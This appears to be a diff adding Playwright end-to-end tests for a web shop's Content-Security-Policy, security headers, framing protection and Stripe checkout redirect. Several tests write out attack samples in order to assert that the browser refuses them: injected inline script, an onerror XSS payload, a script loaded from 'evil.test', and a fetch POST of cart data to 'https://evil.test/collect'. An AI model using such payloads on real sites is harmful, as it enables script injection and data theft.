@@ -1,0 +1,163 @@
+import { expect, test } from './shop.ts';
+import type { Shop } from './shop.ts';
+import { buyFirstOf, payByCard, signInToPay } from './steps.ts';
+
+/** What the page is told of a refusal, and what the browser logs of it; both arrive a little later. */
+async function expectRefusals(shop: Shop, ...patterns: RegExp[]) {
+  for (const pattern of patterns) await expect(() => shop.expectProblem(pattern)).toPass();
+}
+
+// That the policy is in no way of the shop itself is shown by every other test: a violation fails it (shop.ts).
+
+test('every file comes with the headers that protect it, and is kept as long as its name says', async ({
+  page,
+  shop,
+}) => {
+  const answers = new Map<string, Record<string, string>>();
+  page.on('response', (response) => {
+    const { pathname } = new URL(response.url());
+    answers.set(pathname, response.headers());
+  });
+  await page.goto(shop.url);
+  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
+
+  const policy = answers.get('/')?.['content-security-policy'] ?? '';
+  expect(policy).toMatch(/default-src 'none'; script-src 'self' 'sha256-[^']+' https:\/\/js\.stripe\.com; /);
+  expect(policy).not.toMatch(/unsafe|\*/);
+  const scripts = [...answers].filter(([path]) => path.startsWith('/assets/'));
+  expect(scripts.length).toBeGreaterThan(2);
+  for (const [path, headers] of [['/', answers.get('/') ?? {}] as const, ...scripts]) {
+    expect(headers, path).toMatchObject({
+      'content-security-policy': policy,
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'cross-origin-opener-policy': 'same-origin',
+      'cache-control': path === '/' ? 'no-cache' : 'public, max-age=31536000, immutable',
+    });
+  }
+});
+
+test('a script or a style that was put into the page is refused', async ({ page, shop }) => {
+  await page.route(`${shop.url}/`, async (route) => {
+    const response = await route.fetch();
+    const injected = '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
+    await route.fulfill({
+      response,
+      body: (await response.text()).replace('</body>', `${injected}</body>`),
+    });
+  });
+  await page.goto(shop.url);
+  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
+  await expect(page).not.toHaveTitle('taken over');
+  await expectRefusals(
+    shop,
+    /Violation of script-src-elem: inline/,
+    /Executing inline script violates/,
+    /Violation of style-src-elem: inline/,
+    /Applying inline style violates/,
+  );
+});
+
+test('markup from a text, and a script from another address, are refused', async ({ page, shop }) => {
+  await page.goto(shop.url);
+  const refusals = await page.evaluate(() => {
+    const attempts = [
+      () => {
+        document.body.innerHTML = '<img src="x" onerror="alert(1)">';
+      },
+      () => {
+        document.createElement('script').src = 'https://evil.test/script.js';
+      },
+    ];
+    return attempts.map((attempt) => {
+      try {
+        attempt();
+        return 'done';
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : String(error);
+      }
+    });
+  });
+  expect(refusals).toEqual(['refused', 'refused']);
+  await expectRefusals(
+    shop,
+    /Violation of require-trusted-types-for/,
+    /requires 'TrustedHTML' assignment/,
+    /requires 'TrustedScriptURL' assignment/,
+  );
+});
+
+test('nothing can be sent to a host that the shop does not use', async ({ page, shop }) => {
+  await page.goto(shop.url);
+  await expect(page.getByRole('heading', { name: 'BEST SELLING' })).toBeVisible();
+  const outcome = await page.evaluate(() =>
+    fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }).catch((error: Error) => error.name),
+  );
+  expect(outcome).toBe('TypeError');
+  await expectRefusals(
+    shop,
+    /Violation of connect-src: https:\/\/evil\.test\/collect/,
+    /Connecting to 'https:\/\/evil\.test\/collect' violates/,
+    /Fetch API cannot load/,
+  );
+});
+
+test('another page cannot show the shop in a frame', async ({ page, shop }) => {
+  await page.setContent(`<iframe src="${shop.url}/" title="the shop"></iframe>`);
+  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
+  await expectRefusals(shop, /^Framing .* violates .* "frame-ancestors 'none'"/);
+});
+
+test('the payment script is let in, and leads to the payment page', async ({ page, shop }) => {
+  const paymentPage = 'https://checkout.stripe.com/c/pay/';
+  // As a checkout server does that names no address: the provider's script has to find the way.
+  shop.services.checkout.faults.add({ body: { id: 'cs_test_1' } });
+  await page.route('https://js.stripe.com/basil/stripe.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `window.Stripe = () => ({
+        redirectToCheckout: async ({ sessionId }) => {
+          location.assign('${paymentPage}' + sessionId);
+          return {};
+        },
+      });
+      window.Stripe.version = 'basil';`,
+    }),
+  );
+  await page.route(`${paymentPage}*`, (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: '<link rel="icon" href="data:,"><h1>Hosted checkout</h1>',
+    }),
+  );
+  await page.goto(shop.url);
+  await buyFirstOf(page, 'women');
+  await signInToPay(page);
+  await expect(page.getByRole('heading', { name: 'Hosted checkout' })).toBeVisible();
+  expect(page.url()).toBe(`${paymentPage}cs_test_1`);
+});
+
+test('a message has the looks that its library gives it', async ({ page, shop }) => {
+  await page.goto(`${shop.url}/#/collections/women`);
+  await page.getByRole('main').getByRole('article').first().getByRole('link').click();
+  await page.getByRole('button', { name: 'ADD TO CART' }).click();
+  const message = page.getByRole('status', { name: 'Messages' }).getByText('select item size');
+  await expect(message).toBeVisible();
+  // The library's own style, not the shop's, lays the text out.
+  await expect(message).toHaveCSS('display', 'flex');
+});
+
+test.describe('in a folder of a host', () => {
+  test.use({ basePath: '/shop/' });
+
+  test('the shop sells as it does at the root', async ({ page, shop }) => {
+    await page.goto(`${shop.url}/`);
+    await buyFirstOf(page, 'men');
+    await page.reload();
+    await signInToPay(page);
+    await payByCard(page);
+    await expect(page.getByText('Your order is recorded.')).toBeVisible();
+    expect(page.url()).toContain(`${shop.url}/#/payment-success/`);
+  });
+});
